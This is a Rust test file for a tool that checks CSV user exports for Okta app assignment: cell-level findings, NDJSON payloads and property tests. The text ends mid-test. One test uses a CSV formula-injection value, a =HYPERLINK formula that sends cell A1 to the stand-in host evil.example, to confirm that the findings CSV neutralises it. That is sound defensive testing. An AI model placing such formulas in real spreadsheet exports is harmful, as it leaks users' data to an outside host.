//! Native tests of the users file check: parsing, each cell's checks with exact messages and
//! positions, the NDJSON of assignment calls, the findings CSV, and properties over hostile text.
#![cfg(not(target_arch = "wasm32"))]

use luciq_scim::okta::assignment::{build_assignment_payload, AssignmentRequest};
use luciq_scim::profile::{Role, Setup};
use luciq_scim::users::{
    assignments_ndjson, check_users, findings_csv, CellFinding, UserRow, UsersReport, UsersRequest,
    UsersRun,
};
use luciq_scim::Severity;
use proptest::prelude::*;
use serde_json::Value;

fn catalog() -> Vec<String> {
    ["Acme iOS", "Acme Android", "Acme, Inc", "Zeta Pay"]
        .map(String::from)
        .to_vec()
}

fn request(csv: &str, catalog: Option<Vec<String>>, setup: Setup) -> UsersRequest {
    UsersRequest {
        setup,
        roles: None,
        catalog,
        csv: csv.into(),
    }
}

fn check(csv: &str) -> UsersReport {
    check_users(request(csv, Some(catalog()), Setup::Current)).unwrap()
}

/// The one row of a file with the header `email,role,apps,id`.
fn row(email: &str, role: &str, apps: &str, id: &str) -> UserRow {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["email", "role", "apps", "id"]).unwrap();
    w.write_record([email, role, apps, id]).unwrap();
    let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
    let mut report = check(&text);
    assert_eq!(report.rows.len(), 1, "{text:?}");
    report.rows.remove(0)
}

fn in_column<'a>(row: &'a UserRow, column: &str) -> Vec<&'a CellFinding> {
    row.findings.iter().filter(|f| f.column == column).collect()
}

/// (code, message, start, end) of a row's findings in one column.
fn found(row: &UserRow, column: &str) -> Vec<(String, String, usize, usize)> {
    in_column(row, column)
        .into_iter()
        .map(|f| (f.code.to_string(), f.message.clone(), f.start, f.end))
        .collect()
}

fn one(code: &str, message: &str, start: usize, end: usize) -> Vec<(String, String, usize, usize)> {
    vec![(code.into(), message.into(), start, end)]
}

fn utf16_len(s: &str) -> usize {
    s.encode_utf16().count()
}

// ------------------------------------------------------------------ the file

#[test]
fn a_realistic_export() {
    // As a spreadsheet saves it: BOM, CRLF, columns in its own order and case, an extra column
    // with commas in quotes, an app name with a comma, a blank line, a quoted line break.
    let csv = "\u{FEFF}Role , EMAIL,Apps,Department,ID\r\n\
               adminstrator,ada@example.com,\"Acme iOS|Acme Android\",\"Sales, EMEA\",00u1ada\r\n\
               \r\n\
               member,grace@example.com,\"Acme, Inc\",\"R&D,\r\nLab\",\r\n\
               ,linus@example.org,,Ops,00u3linus\r\n\
               viewer,Ada@Example.com,Zeta Pay,Ops,\r\n";
    let report = check(csv);
    let lines: Vec<usize> = report.rows.iter().map(|r| r.line).collect();
    // Line 3 is blank; the record on line 4 runs onto line 5 inside quotes.
    assert_eq!(lines, [2, 4, 6, 7]);
    let ada = &report.rows[0];
    assert_eq!(ada.email, "ada@example.com");
    assert_eq!(ada.role.as_deref(), Some("adminstrator"));
    assert_eq!(ada.apps, ["Acme iOS", "Acme Android"]);
    assert_eq!(ada.user_id.as_deref(), Some("00u1ada"));
    assert!(ada.ok && ada.findings.is_empty(), "{:?}", ada.findings);
    let grace = &report.rows[1];
    assert_eq!(grace.apps, ["Acme, Inc"]);
    assert_eq!(grace.user_id, None);
    assert!(grace.ok, "{:?}", grace.findings);
    // The catalog name has a comma: the name checks warn that it reads as a list.
    assert_eq!(
        found(grace, "apps"),
        one(
            "list-separator",
            "U+002C COMMA at 4: Okta sends the whole text as one name, not as a list",
            4,
            5
        )
    );
    assert_eq!(
        found(grace, "role")[0].0,
        "unconfirmed-value",
        "member is this tool's default value"
    );
    let linus = &report.rows[2];
    assert_eq!((linus.role.clone(), linus.apps.len()), (None, 0));
    assert!(
        linus.ok && linus.findings.is_empty(),
        "{:?}",
        linus.findings
    );
    let again = &report.rows[3];
    assert!(!again.ok);
    assert_eq!(
        found(again, "email"),
        one(
            "duplicate",
            "\"Ada@Example.com\" is the email of line 2 (\"ada@example.com\") again: emails are compared without case, each user once",
            0,
            15
        )
    );
    assert_eq!(
        report.notes,
        ["Ignored 1 column of the header (line 1): \"Department\" (column 4); only email, role, apps and id are read"]
    );
    assert_eq!((report.errors, report.warnings), (1, 1));
    assert_eq!(report.infos, 2, "member and viewer are unconfirmed values");
}

#[test]
fn missing_columns_and_empty_files_are_file_errors() {
    let err = check_users(request(
        "Email,Role,Department\nada@example.com,member,x\n",
        None,
        Setup::Current,
    ))
    .unwrap_err();
    assert_eq!(err.code, "missing-column");
    assert_eq!(
        err.message,
        "The header (line 1) has no \"apps\" column: found \"Email\", \"Role\", \"Department\". \
         The first line must name the columns email, role and apps (any order, any case) and optionally id"
    );
    let err = check_users(request("\n\nname,mail\n", None, Setup::Current)).unwrap_err();
    assert_eq!(err.code, "missing-column");
    assert_eq!(
        err.message,
        "The header (line 3) has no \"email\", \"role\", \"apps\" columns: found \"name\", \"mail\". \
         The first line must name the columns email, role and apps (any order, any case) and optionally id"
    );
    for empty in ["", "\u{FEFF}", "\r\n\r\n", "  \n"] {
        let err = check_users(request(empty, None, Setup::Current)).unwrap_err();
        assert_eq!(err.code, "empty-file", "{empty:?}");
        assert!(
            err.message.starts_with("The file is empty"),
            "{}",
            err.message
        );
    }
    let err = check_users(request("email,role,apps,EMAIL\n", None, Setup::Current)).unwrap_err();
    assert_eq!(err.code, "duplicate-column");
    assert_eq!(
        err.message,
        "The header (line 1) has two \"email\" columns, 1 and 4: keep one. Header found: \"email\", \"role\", \"apps\", \"EMAIL\""
    );
    // A header only: no rows, no error.
    let report = check("email,role,apps\n");
    assert!(report.rows.is_empty());
}

#[test]
fn a_wrong_field_count_is_a_row_error() {
    let report = check(
        "email,role,apps\nada@example.com,member,Acme iOS,Zeta Pay\nbob@example.com,member\n",
    );
    assert_eq!(
        found(&report.rows[0], "row"),
        one(
            "field-count",
            "Line 2 has 4 fields where the header has 3: a comma in a cell that is not in double quotes? The extra fields are ignored",
            0,
            0
        )
    );
    assert_eq!(report.rows[0].apps, ["Acme iOS"]);
    assert_eq!(
        found(&report.rows[1], "row")[0].1,
        "Line 3 has 2 fields where the header has 3: the missing cells are read as empty"
    );
    assert!(report.rows.iter().all(|r| !r.ok));
}

// ------------------------------------------------------------------ email

#[test]
fn email_characters_are_checked_to_the_position() {
    let r = row("ada\u{A0}lovelace@example.com", "", "", "");
    assert_eq!(
        found(&r, "email"),
        one(
            "unusual-space",
            "U+00A0 NO-BREAK SPACE at 3: not a plain space (U+0020)",
            3,
            4
        )
    );
    // Cleaning would leave a plain space: no email, so nothing is offered.
    assert_eq!(in_column(&r, "email")[0].suggestion, None);
    assert_eq!(r.fixed, None);

    let r = row("ada@exam\u{200B}ple.com", "", "", "");
    assert_eq!(
        found(&r, "email"),
        one(
            "invisible-char",
            "U+200B ZERO WIDTH SPACE at 8: invisible, yet part of the value Okta sends",
            8,
            9
        )
    );
    assert_eq!(
        in_column(&r, "email")[0].suggestion.as_deref(),
        Some("ada@example.com")
    );
    assert_eq!(
        r.fixed.as_ref().unwrap().email.as_deref(),
        Some("ada@example.com")
    );

    let r = row("ada@ex\u{430}mple.com", "", "", "");
    assert_eq!(
        found(&r, "email"),
        one(
            "confusable",
            "U+0430 CYRILLIC SMALL LETTER A at 6 is Cyrillic and looks like the Latin \"a\" around it",
            6,
            7
        )
    );

    let r = row("ada@example.com ", "", "", "");
    assert_eq!(
        found(&r, "email"),
        one("edge-whitespace", "Trailing U+0020 SPACE at 15", 15, 16)
    );
    assert!(!r.ok);
}

#[test]
fn email_shape() {
    let cases: [(&str, &str, usize, usize); 9] = [
        ("ada.example.com", "No \"@\" in \"ada.example.com\": an email is name@domain", 0, 15),
        ("ada@lovelace@example.com", "A second \"@\" at 12 (the first is at 3): an email has exactly one", 12, 13),
        ("@example.com", "Nothing before \"@\" at 0: the name part of the email is missing", 0, 1),
        ("ada@", "Nothing after \"@\" at 3: the domain is missing", 3, 4),
        ("ada@localhost", "The domain \"localhost\" at 4 has no \".\": a domain looks like example.com", 4, 13),
        ("ada@example..com", "\".\" at 12 leaves an empty part in the domain \"example..com\" (a dot at its start or end, or two in a row)", 12, 13),
        ("ada@example.com.", "\".\" at 15 leaves an empty part in the domain \"example.com.\" (a dot at its start or end, or two in a row)", 15, 16),
        ("ada lovelace@example.com", "U+0020 SPACE at 3: an email has no spaces", 3, 4),
        ("a b c@example.com", "U+0020 SPACE at 1: an email has no spaces, and 1 more", 1, 2),
    ];
    for (email, message, start, end) in cases {
        let r = row(email, "", "", "");
        assert_eq!(
            found(&r, "email"),
            one("invalid-email", message, start, end),
            "{email}"
        );
        assert!(!r.ok);
    }
    let long = format!("{}@example.com", "a".repeat(250));
    let r = row(&long, "", "", "");
    assert_eq!(
        found(&r, "email"),
        one(
            "invalid-email",
            "262 characters: an email has at most 254",
            0,
            262
        )
    );
    let r = row("ada@example.com;bob@example.com", "", "", "");
    assert_eq!(
        found(&r, "email")[0].1,
        "U+003B SEMICOLON at 15: an email has no \",\" or \";\" (two addresses in one cell?)"
    );
    assert_eq!(in_column(&r, "email")[0].severity, Severity::Error);
    // Required.
    let r = row("", "member", "", "");
    assert_eq!(
        found(&r, "email"),
        one(
            "empty",
            "No email: the column is required (it is the user's Okta login)",
            0,
            0
        )
    );
    let r = row("ada+luciq@sub.example.co.uk", "", "", "");
    assert!(r.ok && r.findings.is_empty(), "{:?}", r.findings);
}

#[test]
fn duplicate_emails_name_the_first_line() {
    let report = check(
        "email,role,apps\nada@example.com,member,\nbob@example.com,,\nADA@example.COM,viewer,\nbob@example.com,,\n",
    );
    assert!(report.rows[0].ok && report.rows[1].ok);
    assert_eq!(
        found(&report.rows[2], "email")[0].1,
        "\"ADA@example.COM\" is the email of line 2 (\"ada@example.com\") again: emails are compared without case, each user once"
    );
    assert_eq!(
        found(&report.rows[3], "email")[0].1,
        "\"bob@example.com\" is the email of line 3 (\"bob@example.com\") again: emails are compared without case, each user once"
    );
}

// ------------------------------------------------------------------ role

#[test]
fn roles_use_the_name_checks() {
    let r = row("ada@example.com", "administrator", "", "");
    let f = in_column(&r, "role");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].code, "admin-role-value");
    assert_eq!(f[0].message, "\"administrator\" is not Luciq's value for Admin: Luciq expects \"adminstrator\" (its own spelling, with no \"i\" between \"admin\" and \"strator\")");
    assert_eq!(f[0].suggestion.as_deref(), Some("adminstrator"));
    assert_eq!(
        r.fixed.as_ref().unwrap().role.as_deref(),
        Some("adminstrator")
    );
    let r = row("ada@example.com", "Member", "", "");
    assert_eq!(
        found(&r, "role"),
        one(
            "case-mismatch",
            "Differs only in case from the catalog name \"member\": \"M\" (U+004D) at 0 where the catalog has \"m\" (U+006D)",
            0,
            1
        )
    );
    let r = row("ada@example.com", "adminstrator ", "", "");
    assert_eq!(
        found(&r, "role"),
        one("edge-whitespace", "Trailing U+0020 SPACE at 12", 12, 13)
    );
    // Empty: no role, which is allowed.
    let r = row("ada@example.com", "", "", "");
    assert_eq!((r.role.clone(), r.ok), (None, true));
    // A role table of the admin's own.
    let mut req = request(
        "email,role,apps\nada@example.com,Support,\nbob@example.com,member,\n",
        None,
        Setup::Current,
    );
    req.roles = Some(vec![Role {
        title: "Support".into(),
        value: "Support".into(),
        confirmed: true,
    }]);
    let report = check_users(req).unwrap();
    assert!(report.rows[0].ok);
    assert_eq!(
        found(&report.rows[1], "role")[0].1,
        "\"member\" is not a catalog role value, and no catalog role value is close"
    );
}

// ------------------------------------------------------------------ apps

#[test]
fn app_findings_count_from_the_start_of_the_cell() {
    // "Acme iOS|" is 9 UTF-16 units: the invisible character is at 4 in the app, 13 in the cell.
    let r = row("ada@example.com", "", "Acme iOS|Acme\u{200B} Android", "");
    let f = in_column(&r, "apps");
    assert_eq!(
        found(&r, "apps"),
        one(
            "invisible-char",
            "U+200B ZERO WIDTH SPACE at 13: invisible, yet part of the value Okta sends",
            13,
            14
        )
    );
    // The suggestion is the whole cell.
    assert_eq!(f[0].suggestion.as_deref(), Some("Acme iOS|Acme Android"));
    // An emoji before takes two units.
    let r = row("ada@example.com", "", "🚀|Acme iOS ", "");
    assert_eq!(
        found(&r, "apps")[1],
        (
            "edge-whitespace".into(),
            "Trailing U+0020 SPACE at 11".into(),
            11,
            12
        )
    );
    // The second app's fix is safe; the first is left as written.
    assert_eq!(
        r.fixed.as_ref().unwrap().apps.as_deref(),
        Some("🚀|Acme iOS")
    );
    let r = row("ada@example.com", "", "acme ios|Acme Andriod", "");
    assert_eq!(
        found(&r, "apps"),
        vec![
            (
                "case-mismatch".into(),
                "Differs only in case from the catalog name \"Acme iOS\": \"a\" (U+0061) at 0 where the catalog has \"A\" (U+0041), and 2 more at 6 and 7".into(),
                0,
                8
            ),
            (
                "not-in-catalog".into(),
                "\"Acme Andriod\" is not a catalog app name; nearest: \"Acme Android\"".into(),
                9,
                21
            ),
        ]
    );
    let f = in_column(&r, "apps");
    assert_eq!(f[0].suggestion.as_deref(), Some("Acme iOS|Acme Andriod"));
    assert_eq!(f[1].suggestion.as_deref(), Some("acme ios|Acme Android"));
    // In the cell, the case mismatch marks the letters that differ; the other finding its span.
    let cell = "acme ios|Acme Andriod";
    assert_eq!(f[0].marks(cell), vec![(0, 1), (6, 8)]);
    assert_eq!(f[1].marks(cell), vec![(9, 21)]);
    // Only the safe fix (the case) goes into the fixed row; the nearest name is a guess.
    assert_eq!(
        r.fixed.as_ref().unwrap().apps.as_deref(),
        Some("Acme iOS|Acme Andriod")
    );
}

#[test]
fn empty_apps_and_repeats() {
    let cases: [(&str, &str, usize, usize, Option<&str>); 4] = [
        (
            "Acme iOS||Zeta Pay",
            "Empty app name at 9: nothing between two \"|\"",
            9,
            10,
            Some("Acme iOS|Zeta Pay"),
        ),
        (
            "|Acme iOS",
            "Empty app name at 0: nothing before the first \"|\"",
            0,
            1,
            Some("Acme iOS"),
        ),
        (
            "Acme iOS|",
            "Empty app name at 9: nothing after the last \"|\"",
            8,
            9,
            Some("Acme iOS"),
        ),
        (
            "|",
            "Empty app name at 0: nothing before the first \"|\"",
            0,
            1,
            None,
        ),
    ];
    for (apps, message, start, end, suggestion) in cases {
        let r = row("ada@example.com", "", apps, "");
        let f = in_column(&r, "apps");
        assert_eq!(
            found(&r, "apps")[0],
            ("empty".into(), message.into(), start, end),
            "{apps}"
        );
        assert_eq!(f[0].suggestion.as_deref(), suggestion, "{apps}");
        assert!(!r.ok);
    }
    let r = row("ada@example.com", "", "Acme iOS|Zeta Pay|Acme iOS", "");
    assert_eq!(
        found(&r, "apps"),
        one(
            "duplicate",
            "\"Acme iOS\" at 18 repeats app 1 of this cell (at 0): it is sent once",
            18,
            26
        )
    );
    assert_eq!(in_column(&r, "apps")[0].severity, Severity::Warning);
    assert_eq!(
        in_column(&r, "apps")[0].suggestion.as_deref(),
        Some("Acme iOS|Zeta Pay")
    );
    assert!(r.ok);
    // Without a catalog, names equal but for case are a warning of their own.
    let report = check_users(request(
        "email,role,apps\nada@example.com,,Acme iOS|ACME IOS\n",
        None,
        Setup::Current,
    ))
    .unwrap();
    assert_eq!(
        found(&report.rows[0], "apps"),
        one(
            "near-duplicate",
            "\"ACME IOS\" at 9 is app 1 of this cell (\"Acme iOS\") after case folding, NFC and space clean-up",
            9,
            17
        )
    );
    assert_eq!(
        report.notes,
        ["The apps were not checked against a catalog, only their characters: give the exact Luciq app names to check them"]
    );
}

#[test]
fn legacy_holds_one_app() {
    let csv = "email,role,apps\nada@example.com,member,Acme iOS|Zeta Pay|Acme Android\nbob@example.com,member,Acme iOS|Acme iOS\ncy@example.com,member,Acme iOS\n";
    let report = check_users(request(csv, Some(catalog()), Setup::Legacy)).unwrap();
    assert_eq!(
        found(&report.rows[0], "apps"),
        one(
            "legacy-single-app",
            "The legacy setup holds one app per user (a plain string); this cell has 3 apps, the second at 9",
            9,
            30
        )
    );
    assert!(!report.rows[0].ok);
    // One app named twice is still one app.
    assert!(report.rows[1].ok);
    assert!(report.rows[2].ok);
    let ndjson = assignments_ndjson(&report, Setup::Legacy);
    let lines: Vec<Value> = ndjson
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(
        lines[0]["body"]["profile"]["instabugApplications"],
        "Acme iOS"
    );
    // The same cells in the current setup are fine.
    let report = check_users(request(csv, Some(catalog()), Setup::Current)).unwrap();
    assert!(report.rows[0].ok);
    // A list separator in a legacy app is an error (the name checks' rule).
    let report = check_users(request(
        "email,role,apps\nada@example.com,,\"Acme iOS, Zeta Pay\"\n",
        None,
        Setup::Legacy,
    ))
    .unwrap();
    assert_eq!(found(&report.rows[0], "apps")[0].0, "list-separator");
    assert!(!report.rows[0].ok);
}

// ------------------------------------------------------------------ id

#[test]
fn ids() {
    let r = row("ada@example.com", "", "", "00u1abcd2EFGH3ijk4x7");
    assert!(r.ok && r.findings.is_empty());
    let r = row("ada@example.com", "", "", "00u1abcd 2EF");
    assert_eq!(
        found(&r, "id"),
        one(
            "invalid-id",
            "id \"00u1abcd 2EF\" is not an Okta id (letters and digits, like 00u1abcd2EFGH3ijk4x7): U+0020 SPACE at 8",
            8,
            9
        )
    );
    let r = row("ada@example.com", "", "", "00u1abcd\u{200B}");
    let f = in_column(&r, "id");
    assert_eq!(f[0].start, 8);
    assert_eq!(f[0].suggestion.as_deref(), Some("00u1abcd"));
    assert_eq!(r.fixed.as_ref().unwrap().id.as_deref(), Some("00u1abcd"));
    let r = row("ada@example.com", "", "", "0oa1abcd");
    assert_eq!(
        found(&r, "id"),
        one(
            "id-prefix",
            "\"0oa1abcd\" does not start with \"00u\" as Okta user ids do (00g is a group, 0oa an app)",
            0,
            3
        )
    );
    assert!(r.ok, "a warning only");
}

// ------------------------------------------------------------------ runs

fn sample_file(rows: usize) -> String {
    let mut csv = String::from("id,email,role,apps\n");
    let roles = ["adminstrator", "member", "Viewer", "", "administrator"];
    let apps = [
        "Acme iOS|Zeta Pay",
        "",
        "Acme Andriod",
        "Acme iOS||Acme iOS",
        "Zeta Pay",
    ];
    for i in 0..rows {
        let id = if i % 3 == 0 {
            String::new()
        } else {
            format!("00u{i}")
        };
        let email = if i % 17 == 5 {
            format!("user{}@example.com", i - 1)
        } else {
            format!("user{i}@example.com")
        };
        csv.push_str(&format!(
            "{id},{email},{},{}\n",
            roles[i % 5],
            apps[i % 4 + usize::from(i % 7 == 0)]
        ));
    }
    csv
}

#[test]
fn a_run_in_steps_equals_one_run() {
    let csv = sample_file(200);
    let whole = check(&csv);
    let mut run = UsersRun::new(request(&csv, Some(catalog()), Setup::Current)).unwrap();
    assert_eq!(run.progress(), (0, 200));
    let mut steps = 0;
    while !run.step(7) {
        steps += 1;
        let (done, all) = run.progress();
        assert_eq!((done, all), (7 * steps, 200));
    }
    assert_eq!(run.progress(), (200, 200));
    assert_eq!(run.finish(), whole);
    assert!(whole.errors > 0 && whole.warnings > 0 && whole.infos > 0);
    let counted = whole
        .rows
        .iter()
        .flat_map(|r| &r.findings)
        .filter(|f| f.severity == Severity::Error)
        .count();
    assert_eq!(whole.errors, counted);
    for r in &whole.rows {
        assert_eq!(
            r.ok,
            !r.findings.iter().any(|f| f.severity == Severity::Error)
        );
    }
}

#[test]
fn an_app_not_in_the_catalog_first_builds_its_tables_in_slices() {
    // A page checks a users file in slices; the catalog's tables for app names not in it (the
    // nearest-name search's) are built in slices too, the first time a row needs them, as a
    // names check builds them: no slice builds them whole.
    let catalog: Vec<String> = (0..1_000).map(|i| format!("Acme App {i:04}")).collect();
    let csv = "email,role,apps\n\
               a@example.com,member,Acme App 0001\n\
               b@example.com,member,Acme App 0002|Acme Ap 0003\n\
               c@example.com,member,Acme App 0004\n";
    let whole = check_users(request(csv, Some(catalog.clone()), Setup::Current)).unwrap();
    let mut run = UsersRun::new(request(csv, Some(catalog), Setup::Current)).unwrap();
    // The first row's app is a catalog entry: checked at once, no table built.
    assert!(!run.step(1));
    assert_eq!(run.progress(), (1, 3));
    // The second row's second app is not: 8 entries of the tables a step, no row checked.
    assert!(!run.step(1));
    assert_eq!(run.progress(), (1, 3));
    let mut steps = 2;
    while !run.step(1) {
        steps += 1;
        assert!(steps < 1_000, "the run was not done after {steps} steps");
    }
    // Four tables of 1,000 entries in five stages at 8 a step: about 625 steps, then the last
    // two rows.
    assert!(
        steps > 400,
        "{steps} steps: the tables were built in slices"
    );
    let report = run.finish();
    assert_eq!(report, whole);
    let typo = &report.rows[1];
    assert!(!typo.ok);
    assert!(
        typo.findings
            .iter()
            .any(|f| f.suggestion.as_deref() == Some("Acme App 0002|Acme App 0003")),
        "{:?}",
        typo.findings
    );
}

#[test]
fn ten_thousand_rows_against_ten_thousand_apps() {
    let mut catalog: Vec<String> = (0..10_000).map(|i| format!("Acme App {i:05}")).collect();
    catalog.extend(["Acme iOS", "Zeta Pay"].map(String::from));
    let mut csv = String::from("email,role,apps,id\n");
    for i in 0..10_000 {
        let apps = match i % 50 {
            0 => format!("Acme App {:05}|acme app {:05}", i, i + 1),
            1 => "Acme Ap 00042".to_string(),
            _ => format!("Acme App {:05}|Acme iOS", (i * 7) % 10_000),
        };
        csv.push_str(&format!("user{i}@example.com,member,{apps},00u{i}\n"));
    }
    let mut run = UsersRun::new(request(&csv, Some(catalog), Setup::Current)).unwrap();
    while !run.step(500) {}
    let report = run.finish();
    assert_eq!(report.rows.len(), 10_000);
    assert_eq!(report.rows.iter().filter(|r| !r.ok).count(), 400);
    assert_eq!(
        assignments_ndjson(&report, Setup::Current).lines().count(),
        9_600
    );
}

// ------------------------------------------------------------------ NDJSON

/// The body `build_assignment_payload` returns for a row (with a stand-in id when it has none,
/// removed again), with the apps as they are sent: each once.
fn built_body(row: &UserRow, setup: Setup, catalog: Option<Vec<String>>) -> Value {
    let mut apps: Vec<String> = Vec::new();
    for a in &row.apps {
        if !apps.contains(a) {
            apps.push(a.clone());
        }
    }
    let call = build_assignment_payload(&AssignmentRequest {
        setup,
        user_id: row.user_id.clone().unwrap_or_else(|| "00uSTANDIN".into()),
        user_name: row.email.clone(),
        role: row.role.clone(),
        apps: (!apps.is_empty()).then_some(apps),
        catalog,
        ..AssignmentRequest::default()
    })
    .unwrap_or_else(|e| panic!("line {} is ok but the builder refuses it: {e}", row.line));
    let mut body = call.body;
    if row.user_id.is_none() {
        body.as_object_mut().unwrap().remove("id");
    }
    body
}

#[test]
fn ndjson_lines_carry_the_assignment_bodies() {
    let csv = "email,role,apps,id\n\
               ada@example.com,adminstrator,Acme iOS|Zeta Pay,00u1ada\n\
               bad@example.com,administrator,Acme iOS,00u2bad\n\
               grace+ops@example.com,,,\n\
               linus@example.org,member,Acme iOS|Acme iOS,00u4linus\n";
    let report = check(csv);
    let ndjson = assignments_ndjson(&report, Setup::Current);
    let lines: Vec<&str> = ndjson.lines().collect();
    assert!(ndjson.ends_with('\n'));
    assert_eq!(lines.len(), 3, "the row with an error is left out");
    let ok: Vec<&UserRow> = report.rows.iter().filter(|r| r.ok).collect();
    for (line, row) in lines.iter().zip(&ok) {
        let body =
            serde_json::to_string(&built_body(row, Setup::Current, Some(catalog()))).unwrap();
        assert!(line.contains(&format!("\"body\":{body}")), "{line}\n{body}");
    }
    assert_eq!(
        lines[0],
        r#"{"body":{"credentials":{"userName":"ada@example.com"},"id":"00u1ada","profile":{"instabugApplications":["Acme iOS","Zeta Pay"],"instabugRole":"adminstrator"},"scope":"USER"},"email":"ada@example.com","line":2,"method":"POST","path":"/api/v1/apps/{appId}/users","userId":"00u1ada"}"#
    );
    // No id: no "id" in the body, and the path to look the user up by login.
    assert_eq!(
        lines[1],
        r#"{"body":{"credentials":{"userName":"grace+ops@example.com"},"profile":{},"scope":"USER"},"email":"grace+ops@example.com","line":4,"lookup":"/api/v1/users/grace%2Bops%40example.com","method":"POST","path":"/api/v1/apps/{appId}/users","userId":null}"#
    );
    // A repeated app is sent once.
    assert!(
        lines[2].contains(r#""instabugApplications":["Acme iOS"]"#),
        "{}",
        lines[2]
    );
}

// ------------------------------------------------------------------ findings CSV

#[test]
fn findings_csv_neutralises_formulas_and_parses_back() {
    let csv = "email,role,apps,id\n\
               \"=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\",+1,@SUM(A1:A9),-2+3\n\
               ada@example.com,\tmember,\"Acme iOS,\r\nZeta\",00u1\n";
    let report = check(csv);
    let text = findings_csv(&report);
    assert!(text.starts_with("line,column,severity,code,message,value\r\n"));
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let total: usize = report.rows.iter().map(|r| r.findings.len()).sum();
    assert_eq!(records.len(), total);
    for rec in &records {
        assert_eq!(rec.len(), 6);
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
                "{cell:?} in {rec:?}"
            );
        }
    }
    let value_of = |column: &str| {
        records
            .iter()
            .find(|r| &r[1] == column && &r[0] == "2")
            .map(|r| r[5].to_string())
            .unwrap()
    };
    assert_eq!(
        value_of("email"),
        "'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
    );
    assert_eq!(value_of("role"), "'+1");
    assert_eq!(value_of("apps"), "'@SUM(A1:A9)");
    assert_eq!(value_of("id"), "'-2+3");
    // The tab-led role and the line break inside quotes survive as text.
    let tab = records
        .iter()
        .find(|r| &r[0] == "3" && &r[1] == "role")
        .unwrap();
    assert_eq!(&tab[5], "'\tmember");
    let apps = records
        .iter()
        .find(|r| &r[0] == "3" && &r[1] == "apps")
        .unwrap();
    assert_eq!(&apps[5], "Acme iOS,\r\nZeta");
    // Each record: line, column, severity, code, message.
    let first = &records[0];
    assert_eq!((&first[0], &first[1], &first[2]), ("2", "email", "error"));
}

// ------------------------------------------------------------------ properties

/// Characters that make CSV and names hard, with ordinary ones.
const PIECES: &[&str] = &[
    "a",
    "b",
    "Acme iOS",
    "Zeta Pay",
    "member",
    "adminstrator",
    "administrator",
    "00u1",
    "@",
    ".",
    "ada@example.com",
    "|",
    "||",
    ",",
    "\"",
    "\"\"",
    "\n",
    "\r\n",
    "\r",
    " ",
    "\u{A0}",
    "\u{200B}",
    "\u{FEFF}",
    "\u{430}",
    "\u{301}",
    "🚀",
    "\u{FFFD}",
    "\t",
    ";",
    "=",
    "+",
    "-",
    "email",
    "role",
    "apps",
    "id",
    "ID ",
    "é",
    "\u{2019}",
    "\0",
];

fn hostile_text() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            6 => prop::sample::select(PIECES).prop_map(String::from),
            1 => any::<char>().prop_map(String::from),
        ],
        0..60,
    )
    .prop_map(|v| v.concat())
}

fn cell() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(PIECES), 0..5).prop_map(|v| v.concat())
}

/// A row of the header `apps,EMAIL,role,id`: each cell often a plausible value, else hostile;
/// sometimes one field too many.
fn user_row() -> impl Strategy<Value = Vec<String>> {
    let pick =
        |values: &'static [&'static str]| prop::sample::select(values).prop_map(String::from);
    (
        prop_oneof![
            cell(),
            pick(&[
                "",
                "Acme iOS",
                "Acme iOS|Zeta Pay",
                "Zeta Pay|Zeta Pay",
                "acme ios"
            ])
        ],
        prop_oneof![1 => cell(), 2 => (0..40u8).prop_map(|i| format!("u{i}@example.com"))],
        prop_oneof![cell(), pick(&["", "member", "adminstrator", "Member"])],
        prop_oneof![cell(), pick(&["", "00u1", "00uAbC9"])],
        prop::option::weighted(0.1, cell()),
    )
        .prop_map(|(apps, email, role, id, extra)| {
            let mut row = vec![apps, email, role, id];
            row.extend(extra);
            row
        })
}

fn csv_file() -> impl Strategy<Value = String> {
    prop::collection::vec(user_row(), 0..8).prop_map(|rows| {
        let mut w = csv::WriterBuilder::new()
            .flexible(true)
            .from_writer(Vec::new());
        w.write_record(["apps", "EMAIL", "role", "id"]).unwrap();
        for r in &rows {
            w.write_record(r).unwrap();
        }
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    })
}

fn assert_spans(report: &UsersReport) -> Result<(), TestCaseError> {
    for row in &report.rows {
        for f in &row.findings {
            let cell = row.cell(f.column);
            prop_assert!(
                f.start <= f.end && f.end <= utf16_len(&cell),
                "{:?} in {:?}",
                f,
                cell
            );
            prop_assert!(!f.message.is_empty());
        }
        prop_assert_eq!(
            row.ok,
            !row.findings.iter().any(|f| f.severity == Severity::Error)
        );
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]

    /// Any text: no panic, and every span lies inside its cell.
    #[test]
    fn any_text_is_checked_without_panic(text in hostile_text(), with_catalog in any::<bool>(), legacy in any::<bool>()) {
        let setup = if legacy { Setup::Legacy } else { Setup::Current };
        let header = format!("email,role,apps,id\n{text}");
        for csv in [text, header] {
            if let Ok(report) = check_users(request(&csv, with_catalog.then(catalog), setup)) {
                assert_spans(&report)?;
                let _ = findings_csv(&report);
                let _ = assignments_ndjson(&report, setup);
            }
        }
    }

    /// Well-formed files of hostile cells: spans in bounds, and every ok row is one the assignment
    /// builder accepts, with the same body.
    #[test]
    fn ok_rows_are_rows_the_builder_accepts(csv in csv_file(), with_catalog in any::<bool>(), legacy in any::<bool>()) {
        let setup = if legacy { Setup::Legacy } else { Setup::Current };
        let cat = with_catalog.then(catalog);
        let report = check_users(request(&csv, cat.clone(), setup)).unwrap();
        assert_spans(&report)?;
        let ndjson = assignments_ndjson(&report, setup);
        let ok: Vec<&UserRow> = report.rows.iter().filter(|r| r.ok).collect();
        prop_assert_eq!(ndjson.lines().count(), ok.len());
        for (line, row) in ndjson.lines().zip(ok) {
            let line: Value = serde_json::from_str(line).unwrap();
            prop_assert_eq!(&line["body"], &built_body(row, setup, cat.clone()));
        }
        let text = findings_csv(&report);
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
